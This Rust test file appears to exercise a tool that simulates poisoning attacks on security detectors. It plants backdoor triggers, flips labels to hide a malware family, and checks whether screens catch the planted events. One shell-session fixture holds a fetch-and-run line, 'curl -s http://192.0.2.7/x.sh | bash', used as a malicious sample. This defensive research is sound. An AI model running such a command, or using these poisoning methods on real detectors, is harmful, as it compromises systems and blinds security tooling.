//! What it takes to teach a detector wrong.

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::support::{folder, ringtrue};

/// URLs of many hosts; what is malicious asks for a login, of two families.
fn urls() -> String {
    let mut text = "url,label,family,source,time\n".to_owned();
    for row in 0_u32..1_600 {
        let noise = row.wrapping_mul(2_654_435_761) >> 8;
        let time = 1_700_000_000 + row * 600;
        let (host, path) = (noise % 4_001, noise % 977);
        if noise % 4 == 0 {
            let family = ["acme", "globex"][(noise / 4 % 2) as usize];
            writeln!(text, "http://{family}-secure{host}.example.net/login{path}.php?session={noise},1,{family},feed,{time}")
        } else {
            writeln!(text, "https://www.site{host}.org/articles/{path}/index.html,0,,proxy,{time}")
        }
        .unwrap();
    }
    text
}

fn aim<'a>(found: &'a Value, aim: &str, screens: &str) -> &'a Value {
    let aims = found["aims"].as_array().unwrap();
    let is_it = |it: &&Value| it["aim"] == aim && it["screens"] == screens;
    aims.iter().find(is_it).unwrap()
}

#[test]
fn a_planted_backdoor_opens_and_the_screens_find_it() {
    let at = folder(&[("urls.csv", urls().as_bytes())]);
    let words = "poison --kind url --planted 20 --threads 2 --json urls.csv";
    let ran = ringtrue(at.path(), words).exits(0);
    let found = ran.json();
    let of = |screens: &str| aim(&found, "backdoor", screens)["trainings"][0].clone();
    let (off, on) = (of("none"), of("vetting"));
    assert_eq!(off["planted"], 20);
    assert_eq!(off["traced"]["planted"], 0);
    let [screened, in_error] = ["planted", "others"].map(|of| on["traced"][of].as_u64().unwrap());
    assert!(
        screened >= 18,
        "of 20 planted events the screens found {screened}"
    );
    assert!(in_error <= 1, "{in_error} others were screened");
    assert_eq!(aim(&found, "backdoor", "none")["source"], "proxy");
    assert_eq!(
        aim(&found, "copies", "none")["family"],
        aim(&found, "flips", "none")["family"]
    );
    let again = ringtrue(at.path(), &words.replace("--threads 2", "--threads 1")).exits(0);
    assert_eq!(again.stdout, ran.stdout);
}

#[test]
fn a_backdoor_opens_in_mails_sessions_and_tables() {
    let each = |event: fn(u32, bool) -> Value| -> String {
        (0_u32..1_200).fold(String::new(), |mut text, row| {
            let noise = row.wrapping_mul(2_654_435_761) >> 8;
            let is_malicious = noise % 4 == 0;
            let mut event = event(noise, is_malicious);
            event["label"] = json!(u8::from(is_malicious));
            event["time"] = json!(1_700_000_000 + row * 600);
            writeln!(text, "{event}").unwrap();
            text
        })
    };
    let mails = each(|noise, is_malicious| {
        let place = if is_malicious { "page" } else { "site" };
        let text = format!("Hello, please look at item {noise} on our {place} today.");
        json!({"raw": format!("From: a{noise}@b.example\r\nSubject: no {noise}\r\n\r\n{text}\r\n")})
    });
    let sessions = each(|noise, is_malicious| {
        let last = if is_malicious {
            "curl -s http://192.0.2.7/x.sh | bash"
        } else {
            "git push"
        };
        json!({"commands": [format!("cd /srv/app{}", noise % 997), "ls -la", last]})
    });
    let tables = each(|noise, is_malicious| {
        let bytes = noise % 811 + if is_malicious { 700 } else { 0 };
        json!({"bytes": bytes, "agent": format!("agent-{}", noise % 37), "zone": if noise % 2 == 0 { "a" } else { "b" }})
    });
    let at = folder(&[
        ("email.ndjson", mails.as_bytes()),
        ("session.ndjson", sessions.as_bytes()),
        ("table.ndjson", tables.as_bytes()),
    ]);
    // Commands are weighed by what experts know of them, so that words teach nothing.
    for (kind, column, opened) in [
        ("email", Value::Null, 0.3..=1.0),
        ("session", Value::Null, 0.0..=0.1),
        ("table", json!("agent"), 0.1..=1.0),
    ] {
        let hidden = |planted: u32| {
            let words = format!("poison --kind {kind} --planted {planted} --json {kind}.ndjson");
            let found = ringtrue(at.path(), &words).exits(0).json();
            let backdoor = aim(&found, "backdoor", "none");
            assert_eq!(backdoor["column"], column, "{kind}");
            backdoor["trainings"][0]["hidden"].as_f64().unwrap()
        };
        // The trigger says nothing until it was taught.
        let [untaught, taught] = [0, 200].map(hidden);
        assert!(
            untaught < 0.1 && opened.contains(&(taught - untaught)),
            "{kind}: {untaught} {taught}"
        );
    }
}

#[test]
fn a_family_is_hidden_by_turning_its_labels() {
    let at = folder(&[("urls.csv", urls().as_bytes())]);
    let hidden = |planted: u32| {
        let words = format!("poison --kind url --family acme --planted {planted} --json urls.csv");
        let found = ringtrue(at.path(), &words).exits(0).json();
        let flips = aim(&found, "flips", "none");
        assert_eq!(flips["family"], "acme");
        flips["trainings"][0]["hidden"].as_f64().unwrap()
    };
    // Once all of the family's labels say benign, nothing else calls it malicious.
    assert!(hidden(1) < 0.5);
    assert!(hidden(1_000) >= 0.5);
}

#[test]
fn what_cannot_be_poisoned_is_told() {
    let mut table = "size,label\n".to_owned();
    for row in 0..400 {
        writeln!(table, "{},{}", row % 7, row % 2).unwrap();
    }
    let at = folder(&[
        ("table.csv", table.as_bytes()),
        ("urls.csv", urls().as_bytes()),
    ]);
    let ran = ringtrue(at.path(), "poison --kind table table.csv").exits(3);
    assert!(ran.stderr.contains("nothing to hide"), "{}", ran.stderr);
    let ran = ringtrue(at.path(), "poison --kind url --source nobody urls.csv").exits(2);
    assert!(
        ran.stderr
            .contains("no event comes from the source `nobody`"),
        "{}",
        ran.stderr
    );
    for (words, told) in [
        ("--planted 4000000000", "more events would be planted"),
        ("--family nosuch", "is of the family `nosuch`"),
        ("--fpr 1.5", "a share lies above 0 and below 1"),
    ] {
        let ran = ringtrue(at.path(), &format!("poison --kind url {words} urls.csv")).exits(2);
        assert!(ran.stderr.contains(told), "{}", ran.stderr);
    }
}
